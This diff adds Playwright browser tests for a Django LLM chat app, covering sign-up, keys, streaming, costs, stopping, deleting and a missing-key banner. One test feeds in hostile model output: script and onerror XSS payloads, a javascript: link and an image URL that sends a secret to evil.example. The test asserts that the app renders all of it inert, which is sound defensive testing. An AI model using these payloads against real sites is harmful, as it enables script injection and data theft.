@@ -1,0 +1,154 @@
+"""A person in Chromium, against the ASGI server and the mock provider:
+sign up, add a key, chat, reload, stop, survive hostile output, delete."""
+
+from typing import Any
+
+import pytest
+
+from conversations.models import Conversation, Message
+from llmchat.tests.browser import asgi_page, screenshot
+
+__all__ = ["asgi_page"]
+
+PASSWORD = "a long and private passphrase"
+KEY = "sk-proj-Browser0000000000000000000000wxyz"
+
+XSS_REPLY = (
+    "Here you go: <script>window.__xss = 1</script> "
+    '<img src=x onerror="window.__xss = 2"> '
+    "[click me](javascript:window.__xss=3) "
+    "![exfil](https://evil.example/pixel.png?secret=hunter2) "
+    "and some `code` plus **bold**."
+)
+
+
+@pytest.mark.browser
+@pytest.mark.django_db(transaction=True)
+def test_a_person_chats_with_a_model(asgi_page: Any, mock_provider: Any, prices: None) -> None:
+    page = asgi_page
+    page.on("dialog", lambda dialog: dialog.accept("Renamed chat") if dialog.type == "prompt" else dialog.accept())
+
+    # Sign up.
+    page.goto("/accounts/signup/")
+    page.fill("input[name=email]", "sam@example.com")
+    page.fill("input[name=password1]", PASSWORD)
+    page.fill("input[name=password2]", PASSWORD)
+    page.click("main button[type=submit]")
+    page.wait_for_url("**/")
+
+    # Add an OpenAI key (OPENAI_BASE_URL points at the mock provider).
+    page.click("nav >> text=Keys")
+    card = page.locator("#key-openai")
+    card.locator("input[name=key]").fill(KEY)
+    card.get_by_role("button", name="Save").click()
+    page.get_by_text("Saved your OpenAI key").wait_for()
+
+    # Chat: the reply streams in, then shows its tokens and cost.
+    mock_provider.configure(
+        reply="Tokens are **pieces** of words.", input_tokens=1200, cached_tokens=200,
+        tokens_per_second=20,
+    )
+    page.click("nav >> text=Chat")
+    page.select_option("#model-picker", "openai|gpt-4o")
+    page.fill("#message-input", "What is a token?")
+    page.keyboard.press("Enter")
+    streaming = page.locator(".message-assistant .message-body.streaming")
+    streaming.wait_for()
+    assert page.locator("#stop-button").is_visible()
+    page.locator(".message-assistant .meta-cost").wait_for()
+    reply = page.locator(".message-assistant").last
+    assert reply.locator("strong").inner_text() == "pieces"
+    meta = reply.locator(".message-meta").inner_text()
+    assert "1,200 in (200 cached)" in meta
+    assert "5 out" in meta
+    # gpt-4o: 1000*2.5 + 200*1.25 + 5*10 = 2800 per 1M
+    assert "$0.0028" in meta
+    assert "$0.0028" in page.locator("#conversation-total").inner_text()
+    assert page.url.endswith(f"/c/{Conversation.objects.get().pk}/")
+    screenshot(page, "chat")
+
+    # Reload: the history is there.
+    page.reload()
+    assert page.locator(".message-user").inner_text() == "What is a token?"
+    assert page.locator(".message-assistant strong").inner_text() == "pieces"
+
+    # Stop mid-reply keeps the partial reply.
+    mock_provider.configure(reply=None, reply_tokens=300, tokens_per_second=15)
+    page.fill("#message-input", "Tell me more")
+    page.click("#send-button")
+    page.locator(".message-assistant .message-body.streaming").wait_for()
+    body = page.locator(".message-assistant").last.locator(".message-body")
+    for _ in range(200):  # (wait_for_function would need eval, which our CSP forbids)
+        if len(body.text_content() or "") > 30:
+            break
+        page.wait_for_timeout(25)
+    page.click("#stop-button")
+    page.locator(".message-assistant.status-stopped").wait_for()
+    # The server saves the partial reply as soon as it sees the disconnect.
+    for _ in range(100):
+        stopped = Message.objects.filter(role="assistant", status="stopped").first()
+        if stopped is not None:
+            break
+        page.wait_for_timeout(50)
+    assert stopped is not None
+    assert stopped.content.startswith("You said: Tell me more")
+    page.reload()
+    assert page.locator(".message-assistant.status-stopped .badge", has_text="stopped").count() == 1
+
+    # Hostile model output renders inert and loads nothing external.
+    mock_provider.configure(reply=XSS_REPLY, tokens_per_second=0)
+    page.fill("#message-input", "Say something nasty")
+    page.click("#send-button")
+    last = page.locator(".message-assistant").last
+    last.locator(".meta-cost").wait_for()
+    assert page.evaluate("window.__xss") is None
+    assert last.locator("img").count() == 0
+    assert last.locator("script").count() == 0
+    exfil = last.locator("a", has_text="exfil")
+    assert exfil.get_attribute("href") == "https://evil.example/pixel.png?secret=hunter2"
+    assert exfil.get_attribute("rel") == "noopener noreferrer nofollow"
+    assert last.locator("a[href^='javascript']").count() == 0
+    page.reload()
+    assert page.evaluate("window.__xss") is None
+    assert page.locator(".message-assistant img").count() == 0
+
+    # Rename, then delete.
+    page.click("[data-action=rename]")
+    page.locator("#chat-title", has_text="Renamed chat").wait_for()
+    page.click("[data-action=delete]")
+    page.wait_for_url(lambda url: "/c/" not in url)
+    assert not Conversation.objects.exists()
+    assert page.locator("#conversation-list li[data-id]").count() == 0
+
+    assert page.csp_violations == []
+    assert page.external_requests == []
+
+
+@pytest.mark.browser
+@pytest.mark.django_db(transaction=True)
+def test_a_missing_key_is_a_banner_with_a_link_and_nothing_is_lost(
+    asgi_page: Any, mock_provider: Any, prices: None, settings: Any
+) -> None:
+    from conftest import PASSWORD as FIXTURE_PASSWORD
+    from conftest import make_user
+
+    settings.OPENAI_API_KEY = "sk-server-only-for-the-picker-00000"
+    make_user("lee@example.com")
+    page = asgi_page
+    page.goto("/accounts/login/")
+    page.fill("input[name=login]", "lee@example.com")
+    page.fill("input[name=password]", FIXTURE_PASSWORD)
+    page.click("main button[type=submit]")
+    page.wait_for_url("**/")
+    # The server key makes OpenAI available in the picker; then the operator
+    # turns server keys off before the message is sent.
+    page.select_option("#model-picker", "openai|gpt-4o")
+    settings.ALLOW_SERVER_KEYS = False
+    page.fill("#message-input", "Will this be lost?")
+    page.click("#send-button")
+    banner = page.locator("#banner")
+    banner.wait_for()
+    assert "keys page" in banner.inner_text()
+    assert banner.locator("a").get_attribute("href") == "/keys/"
+    assert page.input_value("#message-input") == "Will this be lost?"
+    assert page.locator(".message").count() == 0
